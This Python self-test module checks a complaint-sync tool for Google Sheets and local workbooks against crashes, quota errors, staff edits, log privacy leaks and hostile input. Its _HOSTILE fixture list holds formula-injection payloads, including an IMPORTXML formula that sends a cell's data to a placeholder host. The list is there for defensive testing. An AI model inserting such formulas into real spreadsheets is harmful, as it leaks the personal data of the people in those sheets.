"""`python -m sync selftest`: the reliability and privacy figures of issue 6, each with the test proving it.

Every check builds its own spreadsheet (Google over the in-process API double, or a local
.xlsx in a temporary folder), injects faults, runs cycles until nothing changes and compares
with a run without faults. Nothing sleeps: retry policies get a simulated clock.

The double lives in `tests/`: it is imported only when the self-test runs.
"""

from __future__ import annotations

import contextlib
import errno
import hashlib
import io
import logging
import os
import pickle
import re
import shutil
import tempfile
import zipfile
from collections import Counter
from collections.abc import Callable, Iterator, Mapping
from dataclasses import dataclass
from datetime import datetime, timedelta
from pathlib import Path
from typing import Any, TypeVar
from unittest import mock

from config.settings import Settings
from rules.complaint import FIELDS
from rules.errors import SapaError
from sync import demo
from sync.context import Context
from sync.cycle import run_cycle
from sync.local_store import LocalStore
from sync.status import status
from sync.tabs import CASE_ID
from sync.text import cell_text

TESTS = "tests/test_selftest.py"
RESPONSES_TAB = "Respons Formulir 1"
T = TypeVar("T")
NUMBER = re.compile(r"^[^/]+/(\d+)/")


@dataclass(frozen=True)
class Check:
    """One figure of the self-test: what was measured, whether it meets the guarantee, and its test."""

    name: str
    figure: str
    passed: bool
    test: str


def run_selftest(fast: bool = True) -> list[Check]:
    """Run every check; `fast` keeps the busy cycle at 50 responses (the slow run uses 120)."""
    responses = 50 if fast else 120
    cases = _FAST_CASES if fast else None
    checks: list[tuple[str, Callable[[], tuple[str, bool]]]] = [
        ("crash_google", lambda: _crash_google(responses, cases)),
        ("crash_local", lambda: _crash_local(responses, cases)),
        ("quota_storms", lambda: _quota_storms(responses, cases)),
        ("staff_edits", lambda: _staff_edits(responses, cases)),
        ("hostile_input", _hostile_input),
        ("privacy", _privacy),
        ("local_faults", _local_faults),
    ]
    out: list[Check] = []
    for name, check in checks:
        try:
            figure, passed = check()
        except Exception as err:  # a check that cannot run is a failed check, never a crash of the report
            figure, passed = f"could not run: {type(err).__name__}: {str(err)[:200]}", False
        out.append(Check(name, figure, passed, f"{TESTS}::test_{name}"))
    return out


def render(checks: list[Check]) -> str:
    """One line per check: figure, PASS/FAIL, proving test."""
    width = max((len(c.figure) for c in checks), default=0)
    lines = [f"{c.figure:<{width}}  {'PASS' if c.passed else 'FAIL'}  {c.test}" for c in checks]
    failed = sum(not c.passed for c in checks)
    lines.append(f"{len(checks) - failed}/{len(checks)} checks passed")
    return "\n".join(lines)


def _ctx() -> Context:
    return Context.from_settings(Settings())


# --- invariants ------------------------------------------------------------------------------


def _problems(tables: Mapping[str, list[list[object]]], ctx: Context) -> list[str]:
    """Duplicates and gaps that must never happen, whatever the row order."""
    found: list[str] = []

    def column(tab: str, header: str) -> list[str]:
        rows = tables.get(tab) or []
        if not rows:
            return []
        headers = [cell_text(h) for h in rows[0]]
        if header not in headers:
            return []
        i = headers.index(header)
        return [str(cell_text(r[i])) for r in rows[1:] if i < len(r) and cell_text(r[i])]

    for tab, header in ((ctx.tabs.register.name, CASE_ID), (ctx.tabs.register.name, "ID Kasus"),
                        (RESPONSES_TAB, Settings().tabs.response_marker_column)):
        values = column(tab, header)
        dup = [v for v, n in Counter(values).items() if n > 1]
        if dup:
            found.append(f"duplicate {header} in {tab}: {dup[:3]}")
    letters_tab = Settings().letters.register_tab
    ids = column(letters_tab, "ID Surat")
    if len(ids) != len(set(ids)):
        found.append("duplicate letter id")
    numbers = column(letters_tab, "Nomor Surat")
    kinds = column(letters_tab, "Jenis Surat")
    by_kind: dict[str, list[int]] = {}
    for kind, number in zip(kinds, numbers, strict=False):
        match = NUMBER.match(number)
        if match:
            by_kind.setdefault(kind, []).append(int(match.group(1)))
    for kind, seen in by_kind.items():
        if sorted(seen) != list(range(1, len(seen) + 1)):
            found.append(f"letter numbers of {kind} not 1..n: {sorted(seen)}")
    return found


def _accounted(tables: Mapping[str, list[list[object]]], ctx: Context, now: datetime) -> bool:
    from sync.store import Snapshot, Table

    def table(title: str) -> Table:
        rows = [list(r) for r in tables[title]]
        headers = tuple(cell_text(h) or "" for h in rows[0]) if rows else ()
        data = [(n, tuple(r)) for n, r in enumerate(rows[1:], start=2) if any(v not in (None, "") for v in r)]
        return Table(title, headers, tuple(r for _, r in data), tuple(n for n, _ in data))

    snapshot = Snapshot(table(RESPONSES_TAB), {t: table(t) for t in tables if t != RESPONSES_TAB})
    report = status(snapshot, ctx, ctx.local_time(now))
    return bool(report["cases"] + report["review"] == report["responses"] and not report.get("unprocessed"))


# --- 1. crash consistency: Google -------------------------------------------------------------


def _busy_clock() -> datetime:
    from sync.bench import BUSY_AT

    return BUSY_AT


def _freeze(double: Any) -> bytes:
    saved = (double.clock, double._services, double.log, double._hooks)
    double.clock, double._services, double.log, double._hooks = _busy_clock, {}, [], []
    try:
        return pickle.dumps(double)
    finally:
        double.clock, double._services, double.log, double._hooks = saved


def _thaw(office: Any, blob: bytes) -> Any:
    from letters.google_writer import GoogleLetterWriter
    from sync.bench import _Office

    double = pickle.loads(blob)
    drive, docs = double.service("drive", "v3"), double.service("docs", "v1")
    writer = GoogleLetterWriter(drive, docs, office.folder, office.templates)
    return _Office(double, office.ctx, office.spreadsheet_id, drive, docs, office.folder, office.templates, writer)


_PREPARED: dict[tuple[int, Any], tuple[Any, bytes]] = {}
# The fast run keeps one case per decision of the bench's busy cycle: every role tab, one letter of each kind.
_FAST_CASES = (0, 1, 2, 3, 5, 6)


def _bench_cases(cases: tuple[int, ...] | None) -> Any:
    from sync import bench

    return bench.CASES if cases is None else tuple(bench.CASES[i] for i in cases)


def _google_prepared(responses: int, cases: tuple[int, ...] | None = None) -> tuple[Any, bytes]:
    """The bench's office just before its busy cycle (decisions on every role tab, letters to draft)."""
    if (responses, cases) not in _PREPARED:
        from sync import bench

        with mock.patch.object(bench, "CASES", _bench_cases(cases)):
            office = bench._prepare(_ctx(), responses)
        _PREPARED[responses, cases] = (office, _freeze(office.double))
    return _PREPARED[responses, cases]


def _parallel(function: Callable[..., T], points: list[tuple[Any, ...]]) -> list[T]:
    """Run independent crash points on every core (forked, so prepared state is shared); serially elsewhere."""
    import multiprocessing
    from concurrent.futures import ProcessPoolExecutor

    if "fork" not in multiprocessing.get_all_start_methods() or (os.cpu_count() or 1) < 2:
        return [function(*p) for p in points]
    with ProcessPoolExecutor(min(4, os.cpu_count() or 1), mp_context=multiprocessing.get_context("fork")) as pool:
        return list(pool.map(function, *zip(*points, strict=True)))


def _google_tables(office: Any) -> dict[str, list[list[object]]]:
    return {t: office.tab(t) for t in office.double.sheet_titles(office.spreadsheet_id)}


def _google_letters(office: Any) -> list[str]:
    """Every current letter document: its name and text (ids aside)."""
    double = office.double
    return sorted(f"{f.name}\n{double.document_text(f.id)}" for f in double.files.values()
                  if office.folder in f.parents and not f.trashed and f.id not in office.templates.values())


def _google_state(office: Any) -> tuple[Any, list[str]]:
    from sync.bench import _contents

    return _contents(office), _google_letters(office)


def _settle(cycle: Callable[[], Any], rounds: int = 6) -> bool:
    """Run cycles until one plans nothing; a transient failure just means another round."""
    for _ in range(rounds):
        try:
            if not cycle().plan:
                return True
        except SapaError:
            continue
    return False


def _google_point(responses: int, cases: tuple[int, ...] | None, k: int, applied: bool, expected: Any) -> bool:
    from sync.bench import BUSY_AT
    from tests.google_double import SimulatedCrash

    ctx = _ctx()
    office, blob = _google_prepared(responses, cases)
    copy = _thaw(office, blob)
    copy.double.crash_after(k, applied=applied)
    crashed = False
    try:
        run_cycle(copy.store(), ctx, BUSY_AT, copy.writer)
    except SimulatedCrash:
        crashed = True
    copy.double.clear_faults()
    settled = _settle(lambda: run_cycle(copy.store(), ctx, BUSY_AT, copy.writer))
    tables = _google_tables(copy)
    return crashed and settled and _google_state(copy) == expected and not _problems(tables, ctx)


def _crash_google(responses: int, cases: tuple[int, ...] | None = None) -> tuple[str, bool]:
    from sync.bench import BUSY_AT

    ctx = _ctx()
    office, blob = _google_prepared(responses, cases)
    reference = _thaw(office, blob)
    reference.double.reset_counts()
    run_cycle(reference.store(), ctx, BUSY_AT, reference.writer)
    requests = sum(reference.double.counts.values())
    _settle(lambda: run_cycle(reference.store(), ctx, BUSY_AT, reference.writer))
    expected = _google_state(reference)
    tables = _google_tables(reference)
    sound = not _problems(tables, ctx) and _accounted(tables, ctx, BUSY_AT)
    methods = [e.method_id for e in reference.double.log]
    points = [(k, applied) for applied in (False, True) for k in range(1, requests + 1)]
    results = _parallel(_google_point, [(responses, cases, k, a, expected) for k, a in points])
    survived = sum(results)
    failed = [f"{methods[k - 1]} #{k}{' (applied)' if a else ''}" for (k, a), good in zip(points, results, strict=True)
              if not good]
    ok = sound and survived == len(points) and requests >= 2
    figure = (f"google: {survived}/{len(points)} crash points survived "
              f"({requests} requests x applied before/after, {responses} responses)")
    if failed:
        figure += f"; failed at {', '.join(failed[:8])}"
    return figure, ok


# --- 1. crash consistency: local --------------------------------------------------------------


class _Crash(BaseException):
    """A kill at an arbitrary point: not an Exception, so nothing catches it."""


_WRITES: tuple[tuple[Any, str], ...] = ((zipfile.ZipFile, "writestr"), (os, "fsync"), (os, "replace"))


@contextlib.contextmanager
def _counting(counts: Counter[str]) -> Iterator[None]:
    with contextlib.ExitStack() as stack:
        for target, name in _WRITES:
            real = getattr(target, name)

            def wrapper(*args: Any, _real: Any = real, _name: str = name, **kwargs: Any) -> Any:
                counts[_name] += 1
                return _real(*args, **kwargs)

            stack.enter_context(mock.patch.object(target, name, wrapper))
        yield


@contextlib.contextmanager
def _crash_at(name: str, k: int) -> Iterator[None]:
    target = next(t for t, n in _WRITES if n == name)
    real = getattr(target, name)
    calls = [0]

    def wrapper(*args: Any, **kwargs: Any) -> Any:
        calls[0] += 1
        if calls[0] == k:
            raise _Crash(f"{name} #{k}")
        return real(*args, **kwargs)

    with mock.patch.object(target, name, wrapper):
        yield


def _local_prepare(folder: Path, responses: int, cases: tuple[int, ...] | None) -> None:
    """The bench's scenario on a local workbook: cases walked, new responses in, decisions typed."""
    from openpyxl import load_workbook

    from sync.bench import BUSY_START, SETUP_AT, SETUP_START
    from tests.backends import LocalBackend

    CASES = _bench_cases(cases)
    ctx = _ctx()
    backend = LocalBackend(folder)
    backend.create(demo.sample_rows(len(CASES), seed=3, start=SETUP_START), Settings())
    writer = backend.writer()
    run_cycle(backend.store(), ctx, SETUP_AT, writer)
    intake = backend.tab(ctx.tabs.intake.name)
    column = [cell_text(h) for h in intake[0]].index(CASE_ID)
    ids = sorted(str(r[column]) for r in intake[1:] if str(r[column] or "").startswith("SAPA-"))

    def type_step(case_id: str, step: tuple[str, dict[str, str]]) -> None:
        role, cells = step
        for header, value in cells.items():
            backend.type_into(ctx.tabs.roles[role].name, CASE_ID, case_id, header, value)

    for round_ in range(max(len(steps) for steps, _ in CASES)):
        for case_id, (steps, _) in zip(ids, CASES, strict=False):
            if round_ < len(steps):
                type_step(case_id, steps[round_])
        run_cycle(backend.store(), ctx, SETUP_AT + timedelta(hours=round_ + 1), writer)
    book = load_workbook(backend.path)
    sheet = book[RESPONSES_TAB]
    start = sheet.max_row + 1
    for number, row in enumerate(demo.sample_rows(responses, seed=7, start=BUSY_START), start=start):
        for col, field in enumerate(FIELDS, start=1):
            value = row.get(field)
            cell = sheet.cell(row=number, column=col)
            cell.value = value if value != "" else None
            if isinstance(value, str):
                cell.data_type = "s"
            elif isinstance(value, datetime):
                cell.number_format = "dd/mm/yyyy hh:mm:ss"
    book.save(backend.path)
    for case_id, (_, step) in zip(ids, CASES, strict=False):
        type_step(case_id, step)


def _local_state(folder: Path) -> tuple[dict[str, list[list[object]]], dict[str, str]]:
    from openpyxl import load_workbook

    from tests.backends import docx_text

    book = load_workbook(folder / "sapa.xlsx")
    tables = {s.title: [list(r) for r in s.iter_rows(values_only=True)] for s in book.worksheets}
    letters = {p.stem: docx_text(p) for p in sorted((folder / "Surat SAPA").glob("*.docx"))}
    return tables, letters


def _local_cycle(folder: Path) -> Any:
    from sync.bench import BUSY_AT
    from tests.backends import LocalBackend

    backend = LocalBackend(folder)
    return run_cycle(backend.store(), _ctx(), BUSY_AT, backend.writer())


def _local_point(root: Path, name: str, k: int, expected: Any) -> bool:
    ctx = _ctx()
    folder = root / f"{name}{k}"
    shutil.copytree(root / "prepared", folder)
    crashed = False
    try:
        with _crash_at(name, k):
            _local_cycle(folder)
    except _Crash:
        crashed = True
    try:
        settled = _settle(lambda: _local_cycle(folder))
        state = _local_state(folder)
        return crashed and settled and state == expected and not _problems(state[0], ctx)
    except Exception:
        return False
    finally:
        shutil.rmtree(folder)


def _crash_local(responses: int, cases: tuple[int, ...] | None = None) -> tuple[str, bool]:
    from sync.bench import BUSY_AT

    ctx = _ctx()
    with tempfile.TemporaryDirectory() as tmp:
        root = Path(tmp)
        prepared = root / "prepared"
        prepared.mkdir()
        _local_prepare(prepared, responses, cases)
        reference = root / "reference"
        shutil.copytree(prepared, reference)
        counts: Counter[str] = Counter()
        with _counting(counts):
            _local_cycle(reference)
        _settle(lambda: _local_cycle(reference))
        expected = _local_state(reference)
        sound = not _problems(expected[0], ctx) and _accounted(expected[0], ctx, BUSY_AT)
        points = [(name, k) for _, name in _WRITES for k in range(1, counts[name] + 1)]
        results = _parallel(_local_point, [(root, name, k, expected) for name, k in points])
        survived = sum(results)
        failed = [f"{name}#{k}" for (name, k), good in zip(points, results, strict=True) if not good]
    ok = sound and survived == len(points) and len(points) >= 3
    by_kind = ", ".join(f"{n} {counts[n]}" for _, n in _WRITES)
    figure = f"local: {survived}/{len(points)} crash points survived ({by_kind}; {responses} responses)"
    if failed:
        figure += f"; failed at {','.join(failed[:8])}"
    return figure, ok


# --- 2. quota storms and outages ----------------------------------------------------------------


class _SimClock:
    def __init__(self) -> None:
        self.now = 0.0

    def __call__(self) -> float:
        return self.now

    def sleep(self, seconds: float) -> None:
        self.now += seconds


class _SimTime:
    """The `time` module as googleapiclient sees it, with `sleep` on the simulated clock."""

    def __init__(self, clock: _SimClock) -> None:
        self.sleep = clock.sleep

    def __getattr__(self, name: str) -> Any:
        import time

        return getattr(time, name)


def _timeouts(double: Any, clock: _SimClock) -> None:
    double.timeout_next(times=3)
    double.timeout_next("sheets.spreadsheets.batchUpdate", applied=True)


def _quota_storms(responses: int, cases: tuple[int, ...] | None = None) -> tuple[str, bool]:
    import googleapiclient.http

    from sync.bench import BUSY_AT, RESPONSES_TAB
    from sync.cli import _guarded
    from sync.google_retry import RetryPolicy
    from sync.google_store import GoogleStore

    ctx = _ctx()
    office, blob = _google_prepared(responses, cases)
    reference = _thaw(office, blob)
    _settle(lambda: run_cycle(reference.store(), ctx, BUSY_AT, reference.writer))
    expected = _google_state(reference)

    def outage(double: Any, clock: _SimClock) -> None:
        def hook(d: Any, method_id: str, request: Any) -> None:
            if clock.now < 600:
                d.fail_next(method_id, status=503)

        double.on_request(hook)

    storms: dict[str, Callable[[Any, _SimClock], None]] = {
        "429 every other request": lambda d, c: d.fail_every(2, status=429),
        "runs of 500s": lambda d, c: d.fail_next(status=500, times=5),
        "timeouts (one applied)": _timeouts,
        "10-minute outage": outage,
    }
    passed, notes, retries, raised = 0, [], 0, 0
    for label, inject in storms.items():
        copy = _thaw(office, blob)
        clock = _SimClock()
        policy = RetryPolicy(sleep=clock.sleep, clock=clock, random=lambda: 1.0)
        store = GoogleStore(copy.double.gspread_client(), copy.spreadsheet_id, RESPONSES_TAB, retry=policy)
        inject(copy.double, clock)
        results: list[Any] = []

        def job(s: Any = store, c: Any = copy, out: list[Any] = results) -> None:
            out.append(run_cycle(s, ctx, BUSY_AT, c.writer))

        cycle = _guarded(job)
        caught_up = False
        for _ in range(40):
            before = len(results)
            try:  # googleapiclient's own retries (Drive, Docs) sleep on the simulated clock too
                with mock.patch.object(googleapiclient.http, "time", _SimTime(clock)):
                    cycle()
            except Exception:
                raised += 1
            if len(results) > before and not results[-1].plan:
                caught_up = True
                break
            clock.now += 60  # the run loop's poll interval
        copy.double.clear_faults()
        copy.double.clear_hooks()
        retries += len(policy.slept)
        tables = _google_tables(copy)
        same = _google_state(copy) == expected
        if caught_up and same and not _problems(tables, ctx) and all(s <= policy.cap for s in policy.slept):
            passed += 1
        else:
            notes.append(f"{label}: caught_up={caught_up} same={same}")
    ok = passed == len(storms) and raised == 0
    figure = (f"quota: {passed}/{len(storms)} storms caught up with nothing written twice "
              f"({retries} backed-off retries, run loop raised {raised} times)")
    if notes:
        figure += "; " + "; ".join(notes)
    return figure, ok


# --- 3. staff edits mid-cycle -------------------------------------------------------------------

_IDENTITY = ("Korban", "Usia", "Jenis Kelamin", "Kecamatan", "Kelurahan", "Pelapor", "No. WhatsApp", "Alamat Korban")


def _identities(tables: Mapping[str, list[list[object]]]) -> dict[str, dict[str, object]]:
    """case ID -> {identity column: value}, from every tab that has both."""
    out: dict[str, dict[str, object]] = {}
    for rows in tables.values():
        if not rows:
            continue
        headers = [cell_text(h) for h in rows[0]]
        if CASE_ID not in headers:
            continue
        key = headers.index(CASE_ID)
        for row in rows[1:]:
            case = cell_text(row[key]) if key < len(row) else None
            if not case:
                continue
            for i, header in enumerate(headers):
                if header in _IDENTITY and i < len(row) and row[i] not in (None, ""):
                    out.setdefault(str(case), {}).setdefault(header, row[i])
    return out


def _misplaced(tables: Mapping[str, list[list[object]]], expected: Mapping[str, Mapping[str, object]]) -> int:
    """Identity cells holding another case's value (or a case the reference does not know)."""
    wrong = 0
    for rows in tables.values():
        if not rows:
            continue
        headers = [cell_text(h) for h in rows[0]]
        if CASE_ID not in headers:
            continue
        key = headers.index(CASE_ID)
        for row in rows[1:]:
            case = str(cell_text(row[key]) or "") if key < len(row) else ""
            if not case.startswith("SAPA-"):
                continue
            for i, header in enumerate(headers):
                if header in _IDENTITY and i < len(row) and row[i] not in (None, ""):
                    wrong += expected.get(case, {}).get(str(header)) != row[i]
    return wrong


def _edit_point(responses: int, cases: tuple[int, ...] | None, edit: str, k: int,
                expected: Mapping[str, Mapping[str, object]]) -> str:
    """'' when the edit before request k left every value in its case's row and every tab and header back."""
    from sync.bench import BUSY_AT

    ctx = _ctx()
    office, blob = _google_prepared(responses, cases)
    copy = _thaw(office, blob)
    sid = copy.spreadsheet_id
    tabs = ctx.tabs
    kadis = tabs.roles["kadis"].name
    edits: dict[str, Callable[[Any], None]] = {
        "sort": lambda d: d.staff_sort(sid, tabs.intake.name, 0, descending=True),
        "sort responses": lambda d: d.staff_sort(sid, RESPONSES_TAB, 1, descending=True),
        "insert rows": lambda d: d.staff_insert_rows(sid, tabs.intake.name, 2, 2),
        "delete row": lambda d: d.staff_delete_rows(sid, tabs.intake.name, 3),
        "move column": lambda d: d.staff_move_column(sid, tabs.roles["kabid"].name, 9, 1),
        "rename tab": lambda d: d.staff_rename_sheet(sid, kadis, kadis + " lama"),
        "delete tab": lambda d: d.staff_delete_sheet(sid, tabs.roles["tim"].name),
    }
    seen = [0]

    def hook(double: Any, method_id: str, request: Any) -> None:
        seen[0] += 1
        if seen[0] == k:
            edits[edit](double)

    copy.double.on_request(hook)
    try:
        with contextlib.suppress(SapaError):  # refused or failed cleanly: the next cycle starts from the sheet
            run_cycle(copy.store(), ctx, BUSY_AT, copy.writer)
        copy.double.clear_hooks()
        if not _settle(lambda: run_cycle(copy.store(), ctx, BUSY_AT, copy.writer)):
            return "did not settle"
    except Exception as err:
        return f"unexpected {type(err).__name__}"
    tables = _google_tables(copy)
    missing = [f"{t.name}/{h}" for t in tabs.all for h in t.headers
               if t.name not in tables or h not in [cell_text(x) for x in (tables[t.name] or [[]])[0]]]
    wrong = _misplaced(tables, expected)
    problems = _problems(tables, ctx)
    if missing or wrong or problems or not _accounted(tables, ctx, BUSY_AT):
        return f"{wrong} misplaced, missing {missing[:2]}, {problems[:1]}"
    return ""


def _staff_edits(responses: int, cases: tuple[int, ...] | None = None) -> tuple[str, bool]:
    from sync.bench import BUSY_AT

    ctx = _ctx()
    office, blob = _google_prepared(responses, cases)
    reference = _thaw(office, blob)
    reference.double.reset_counts()
    _settle(lambda: run_cycle(reference.store(), ctx, BUSY_AT, reference.writer))
    requests = sum(1 for e in reference.double.log if e.method_id != "sheets.spreadsheets.get") + 1
    expected = _identities(_google_tables(reference))
    edits = ("sort", "sort responses", "insert rows", "delete row", "move column", "rename tab", "delete tab")
    moments = sorted({1, 2, requests})  # before the read, after it, just before the write
    points = [(e, k) for e in edits for k in moments]
    results = _parallel(_edit_point, [(responses, cases, e, k, expected) for e, k in points])
    failed = [f"{e} before request {k}: {r}" for (e, k), r in zip(points, results, strict=True) if r]
    ok = not failed and len(expected) >= 50
    figure = (f"staff edits: {len(points) - len(failed)}/{len(points)} edits mid-cycle left every value in its "
              f"case's row and every tab and header in place")
    if failed:
        figure += "; " + "; ".join(failed[:4])
    return figure, ok


# --- 4. hostile input ---------------------------------------------------------------------------

_HOSTILE = [
    "=1+1", "+SUM(1)", "-2+3", "@x", "\t=1", "\r=1", "\n=1",
    '=IMPORTXML("http://contoh.invalid/?d="&A2, "//a")', '=IMPORTDATA("http://contoh.invalid/x.csv")',
    '=HYPERLINK("http://contoh.invalid","klik")', "x" * 50_001, "Korban 😀 محمد 王小明 Ñandú",
    "a\x00b\x07c\x1bd", "{{victim_name}}", "\u202e=1",
]


def _hostile_rows() -> list[dict[str, object]]:
    from tests.backends import response_row

    rows: list[dict[str, object]] = []
    text_fields = [f for f in FIELDS if f != "timestamp"]
    for i, value in enumerate(_HOSTILE):
        field = text_fields[i % len(text_fields)]
        rows.append(response_row(**{field: value, "story": value, "victim_name": f"{value[:80]} {i}"}))
    rows.append({f: None for f in FIELDS} | {"timestamp": datetime(2026, 11, 28, 9, 45)})  # blank answers
    return rows


def _layouts() -> dict[str, list[list[object]]]:
    """Whole responses tabs (header + rows): the corpus, and broken structures."""
    questions = Settings().form.questions
    header: list[object] = [questions[f] for f in FIELDS]

    def grid(rows: list[dict[str, object]], order: list[str] | None = None,
             extra: bool = False) -> list[list[object]]:
        fields = order or list(FIELDS)
        head: list[object] = [*(questions[f] for f in fields), *(["Pertanyaan tambahan"] if extra else [])]
        body = [[None if r.get(f) == "" else r.get(f) for f in fields] + (["jawaban"] if extra else [])
                for r in rows]
        return [head, *body]

    rows = _hostile_rows()
    reordered = list(reversed(FIELDS))
    missing = [f for f in FIELDS if f not in ("victim_name", "story")]
    return {
        "corpus": [*grid(rows[:8]), [None] * len(FIELDS), *grid(rows[8:])[1:]],
        "reordered+extra": grid(rows[:5], reordered, extra=True),
        "missing column": grid(rows[:5], missing),
        "duplicate header": [[*header, header[1]], *[[*r, "dup"] for r in grid(rows[:5])[1:]]],
    }


def _hostile_input() -> tuple[str, bool]:
    from openpyxl import Workbook

    from sync.bench import BUSY_AT
    from tests.backends import GoogleBackend, LocalBackend, google_spreadsheet

    ctx = _ctx()
    ok_runs, notes, formulas, total = 0, [], 0, 0
    for label, data in _layouts().items():
        for kind in ("local", "google"):
            total += 1
            with tempfile.TemporaryDirectory() as tmp:
                backend: Any
                if kind == "local":
                    backend = LocalBackend(Path(tmp))
                    book = Workbook()
                    sheet = book.active
                    assert sheet is not None
                    sheet.title = RESPONSES_TAB
                    for r, row in enumerate(data, start=1):
                        for c, value in enumerate(row, start=1):
                            if isinstance(value, str):
                                from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE

                                value = ILLEGAL_CHARACTERS_RE.sub("", value)[:32767]
                            cell = sheet.cell(row=r, column=c)
                            cell.value = value
                            if isinstance(value, str):
                                cell.data_type = "s"
                    book.save(backend.path)
                else:
                    backend = GoogleBackend(Path(tmp))
                    backend.spreadsheet_id = google_spreadsheet(backend.double, RESPONSES_TAB, data)
                message = ""
                try:
                    run_cycle(backend.store(), ctx, BUSY_AT, backend.writer())
                    stable = not run_cycle(backend.store(), ctx, BUSY_AT, backend.writer()).plan
                    tables = {t: backend.tab(t) for t in backend.tabs()}
                    accounted = _accounted(tables, ctx, BUSY_AT)
                except SapaError as err:  # a structural problem, said clearly
                    message = str(err)
                    stable, accounted = True, bool(message) and "Traceback" not in message
                bad = [c for c in backend.cells() if c[2]]
                formulas += len(bad)
                if stable and accounted and not bad:
                    ok_runs += 1
                else:
                    notes.append(f"{label}/{kind}: stable={stable} accounted={accounted} formulas={len(bad)}")
    figure = f"hostile input: {ok_runs}/{total} inputs x backends without crash, loss or formula ({formulas} formulas)"
    if notes:
        figure += "; " + "; ".join(notes[:4])
    return figure, ok_runs == total


# --- 5. privacy ---------------------------------------------------------------------------------


class _Collect(logging.Handler):
    def __init__(self) -> None:
        super().__init__(logging.DEBUG)
        self.lines: list[str] = []

    def emit(self, record: logging.LogRecord) -> None:
        self.lines.append(self.format(record))
        if record.exc_info:
            self.lines.append(logging.Formatter().formatException(record.exc_info))


def _privacy() -> tuple[str, bool]:
    from openpyxl import load_workbook

    from sync.cli import main

    seeded = {str(r.get(f)) for r in demo.sample_rows()
              for f in ("reporter_name", "victim_name", "victim_address", "reporter_phone")}
    seeded = {s for s in seeded if len(s) > 4 and s != "None"}
    root = logging.getLogger()
    handler = _Collect()
    level = root.level
    root.addHandler(handler)
    root.setLevel(logging.DEBUG)
    out, err = io.StringIO(), io.StringIO()
    try:
        with tempfile.TemporaryDirectory() as tmp, contextlib.redirect_stdout(out), contextlib.redirect_stderr(err):
            codes = [main(["demo", "--dir", tmp])]
            workbook = Path(tmp) / "sapa-demo.xlsx"
            log_tab = repr(list(load_workbook(workbook)["Log Aktivitas"].iter_rows(values_only=True)))
            fresh = Path(tmp) / "baru.xlsx"  # an error message too: a new workbook open in LibreOffice
            demo.write_responses(fresh, demo.sample_rows(), Settings())
            (Path(tmp) / ".~lock.baru.xlsx#").write_text("x")
            codes.append(main(["--workbook", str(fresh), "once"]))
    finally:
        root.removeHandler(handler)
        root.setLevel(level)
    searched = "\n".join(handler.lines) + out.getvalue() + err.getvalue() + log_tab
    leaks = sorted(s for s in seeded if s in searched)
    ok = codes == [0, 1] and not leaks and len(seeded) >= 40
    figure = (f"privacy: {len(leaks)} of {len(seeded)} seeded names/phones/addresses found in "
              f"{len(handler.lines)} log lines, output, errors and the log tab")
    return figure, ok


# --- 6. local faults ----------------------------------------------------------------------------


def _local_faults() -> tuple[str, bool]:
    from openpyxl import load_workbook

    from rules.errors import InputError, TransientError
    from sync.bench import BUSY_AT

    ctx = _ctx()

    def digest(path: Path) -> str:
        return hashlib.sha256(path.read_bytes()).hexdigest()

    def enospc(*args: object, **kwargs: object) -> None:
        raise OSError(errno.ENOSPC, "No space left on device")

    real_access = os.access
    faults: dict[str, tuple[Callable[[Path], contextlib.AbstractContextManager[Any]], type[BaseException], str]] = {
        "crash during save": (lambda p: _crash_at("replace", 1), _Crash, ""),
        "lock file": (lambda p: _lock(p), TransientError, "LibreOffice or Excel"),
        "disk full": (lambda p: mock.patch.object(zipfile.ZipFile, "writestr", enospc), SapaError, "full"),
        "read-only file": (lambda p: mock.patch.object(
            os, "access", lambda q, m: False if Path(q) == p else real_access(q, m)), InputError, "read-only"),
    }
    passed, notes = 0, []
    for label, (fault, expected_error, words) in faults.items():
        with tempfile.TemporaryDirectory() as tmp:
            path = Path(tmp) / "sapa.xlsx"
            demo.write_responses(path, demo.sample_rows(15), Settings())
            before = digest(path)
            error: BaseException | None = None
            try:
                with fault(path):
                    run_cycle(LocalStore(path), ctx, BUSY_AT)
            except BaseException as err:
                error = err
            unchanged = digest(path) == before
            load_workbook(path)
            leftovers = sorted(p.name for p in Path(tmp).iterdir() if p.name != "sapa.xlsx")
            recovered = _settle(lambda p=path: run_cycle(LocalStore(p), ctx, BUSY_AT))  # type: ignore[misc]
            clear = isinstance(error, expected_error) and words in str(error)
            if unchanged and clear and not leftovers and recovered:
                passed += 1
            else:
                notes.append(f"{label}: unchanged={unchanged} clear={clear} leftovers={leftovers}")
    figure = f"local faults: {passed}/{len(faults)} left the workbook intact with a clear message, then recovered"
    if notes:
        figure += "; " + "; ".join(notes)
    return figure, passed == len(faults)


@contextlib.contextmanager
def _lock(path: Path) -> Iterator[None]:
    lock = path.parent / f".~lock.{path.name}#"
    lock.write_text("user")
    try:
        yield
    finally:
        lock.unlink()
